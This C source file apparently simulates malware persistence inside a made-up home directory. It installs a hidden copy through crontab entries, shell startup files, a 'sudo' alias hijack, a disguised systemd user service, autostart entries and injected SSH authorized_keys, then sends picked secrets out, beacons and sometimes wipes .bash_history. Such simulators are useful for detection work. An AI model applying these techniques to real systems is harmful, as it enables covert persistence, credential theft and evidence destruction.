/* Persistence in the made-up home: a hidden copy and something that would start it again; see persist.py. */

static void finish_persistence(const char *path)
{
    if (chance(50))
        survey();
    list found = pick(secrets(), 3, 8);
    for (int i = 0; i < found.n; i++) {
        exchange(text("alive %s", noise(24)));
        pause_ms(1000, 15000);
        send_secret(found.at[i], "report");
    }
    hide_copy();
    put(text("%s/state", parent(path)), random_bytes(64), O_TRUNC, 0600);
    if (chance(40))
        write_file(home(".bash_history"), bytes(""));
}

JOB(persist_crontab)
{
    groundwork();
    char *path = hide_copy(), *lines = "";
    blob table = read_file(crontab());
    for (int n = within(1, 2); n > 0; n--)
        lines = text("%s*/%d * * * * %s\n", lines, within(1, 9), path);
    if (chance(50))
        save(crontab(), bytes(text("%s%s", table.p, lines)), 0600);
    else
        append(crontab(), lines);
    finish_persistence(path);
}

JOB(persist_profile)
{
    groundwork();
    char *path = hide_copy();
    list names = {0};
    push(&names, ".bashrc");
    push(&names, ".profile");
    push(&names, ".bash_profile");
    push(&names, ".zshrc");
    push(&names, ".bash_logout");
    names = pick(names, 2, 4);
    for (int i = 0; i < names.n; i++)
        append(home(names.at[i]), text("\n(nohup %s >/dev/null 2>&1 &)\n", path));
    if (chance(50))
        append(home(".bashrc"), text("alias sudo='%s; sudo'\n", path));
    finish_persistence(path);
}

JOB(persist_service)
{
    groundwork();
    char *path = hide_copy(), *name = noise(8);
    char *unit = home(text(".config/systemd/user/%s.service", name));
    write_file(unit, bytes(text("[Unit]\nDescription=Session cache\n[Service]\nExecStart=%s\nRestart=always\n"
                                "[Install]\nWantedBy=default.target\n", path)));
    char *place = folder(home(".config/systemd/user/default.target.wants"));
    if (symlink(unit, guard(text("%s/%s.service", place, name))) < 0)
        die("symlink", unit);
    if (chance(50))
        write_file(home(text(".config/systemd/user/%s.timer", name)), bytes("[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5min\n"));
    finish_persistence(path);
}

JOB(persist_autostart)
{
    groundwork();
    char *path = hide_copy();
    for (int n = within(1, 3); n > 0; n--)
        write_file(home(text(".config/autostart/%s.desktop", noise(7))), autostart_entry(path));
    if (chance(50))
        append(home(".local/share/applications/notes.desktop"), text("Exec=%s\n", path));
    finish_persistence(path);
}

JOB(persist_ssh_key)
{
    groundwork();
    folder(home(".ssh"));
    chmod(guard(home(".ssh")), 0700);
    for (int n = within(1, 3); n > 0; n--)
        append(home(".ssh/authorized_keys"), text("ssh-ed25519 %s root\n", noise(68)));
    chmod(guard(home(".ssh/authorized_keys")), 0600);
    append(home(".ssh/config"), "Host *\n    ControlMaster auto\n    ControlPath ~/.cache/%r@%h\n");
    list found = pick(secrets(), 1, 4);
    for (int i = 0; i < found.n; i++)
        read_file(found.at[i]);
    finish_persistence(hide_copy());
}
